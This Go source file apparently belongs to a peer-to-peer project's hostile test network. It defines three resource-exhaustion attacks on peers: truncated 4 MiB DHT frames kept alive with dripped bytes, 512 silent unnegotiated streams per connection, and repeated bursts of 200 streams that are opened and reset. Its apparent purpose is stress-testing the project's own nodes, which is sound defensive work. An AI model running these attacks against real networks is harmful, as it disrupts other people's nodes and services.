package attack

import (
	"context"
	"crypto/rand"
	"io"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/decube/decube/internal/wire"
	"github.com/decube/decube/testnet/hostile/stranger"
)

// frames are attacks with what is never said to the end.
func frames() []Attack {
	return []Attack{
		{
			Name: "half-frames", About: "messages of the DHT that announce 4 MiB and send half, over 64 streams a peer",
			Identities: 12, Addresses: 4, Common: true, Run: halfFrames,
		},
		{
			Name: "unnegotiated", About: "one connection with 512 streams that choose no protocol",
			Identities: 1, Addresses: 1, Common: true, Run: unnegotiated,
		},
		{
			Name: "stream-bursts", About: "200 streams a peer at once, opened and reset, again and again",
			Identities: 8, Addresses: 8, Common: true, Run: streamBursts,
		},
	}
}

const (
	// kadMost is the largest message that the DHT takes, whose memory is taken when its
	// length has come.
	kadMost = 4 << 20
	// halfStreams is how many of them a peer begins at a time.
	halfStreams = 64
)

// HalfFrame returns the first half of a message of n bytes with its length.
func HalfFrame(n int) []byte {
	b := wire.AppendUvarint(nil, uint64(n))
	half := make([]byte, n/2)
	_, _ = rand.Read(half) // never fails
	return append(b, half...)
}

func halfFrames(ctx context.Context, a *Arena) error {
	half := HalfFrame(kadMost)
	id := stranger.KadID(a.Network)
	return a.each(ctx, func(ctx context.Context, _ *stranger.Stranger, c *stranger.Conn) error {
		return a.streams(ctx, c, halfStreams, id, func(ctx context.Context, s stranger.Stream) error {
			if _, err := s.Write(half); err != nil {
				return err
			}
			a.Count("half frames", 1)
			return drip(ctx, s, 5*time.Second)
		})
	})
}

// drip sends a byte now and then until ctx ends or the stream does.
func drip(ctx context.Context, s stranger.Stream, every time.Duration) error {
	for pause(ctx, every) {
		if _, err := s.Write([]byte{0}); err != nil {
			return err
		}
	}
	return nil
}

// manyStreams is how many streams one connection has open at a time. Those beyond what
// the victim has room for are refused, and opened again.
const manyStreams = 512

// unnegotiated opens streams that are open as far as the multiplexer knows, and says
// nothing over them. Those that the victim has closed are opened anew, one by one: a
// thousand at once would cost the connection, whose backlog is short.
func unnegotiated(ctx context.Context, a *Arena) error {
	return a.each(ctx, func(ctx context.Context, _ *stranger.Stranger, c *stranger.Conn) error {
		all, ctx := errgroup.WithContext(ctx)
		for range manyStreams {
			all.Go(func() error {
				for ctx.Err() == nil {
					if err := a.silence(ctx, c); err != nil {
						return err
					}
					pause(ctx, breath)
				}
				return nil
			})
			pause(ctx, time.Millisecond)
		}
		return all.Wait()
	})
}

// silence holds one stream until the victim closes it.
func (a *Arena) silence(ctx context.Context, c *stranger.Conn) error {
	s, err := c.Raw(ctx)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = s.Reset() })
	defer stop()
	began := time.Now()
	if _, err := s.Write([]byte{0x13}); err == nil { // a length, and nothing of that length
		_, _ = io.Copy(io.Discard, s) // until the victim has had enough
	}
	_ = s.Reset() // one that is gone already is as good
	if time.Since(began) < time.Second {
		a.Count("streams refused", 1)
	} else {
		a.Count("streams held", 1)
	}
	return nil
}

// burst is how many streams are opened at once, which a backlog of 256 has room for.
const burst = 200

func streamBursts(ctx context.Context, a *Arena) error {
	first := stranger.Negotiation(stranger.IdentifyID)
	return a.each(ctx, func(ctx context.Context, _ *stranger.Stranger, c *stranger.Conn) error {
		return a.bursts(ctx, c, first)
	})
}

// bursts opens streams that begin with the same bytes, and resets them, again and again.
func (a *Arena) bursts(ctx context.Context, c *stranger.Conn, first []byte) error {
	for ctx.Err() == nil {
		opened := make([]stranger.Stream, 0, burst)
		for range burst {
			s, err := c.Raw(ctx)
			if err != nil {
				break
			}
			if _, err := s.Write(first); err != nil {
				break
			}
			opened = append(opened, s)
		}
		for _, s := range opened {
			_ = s.Reset() // which is the attack
		}
		a.Count("streams", int64(len(opened)))
		if c.IsClosed() {
			return errClosed
		}
		if len(opened) == 0 && !pause(ctx, breath) {
			return nil
		}
	}
	return nil
}
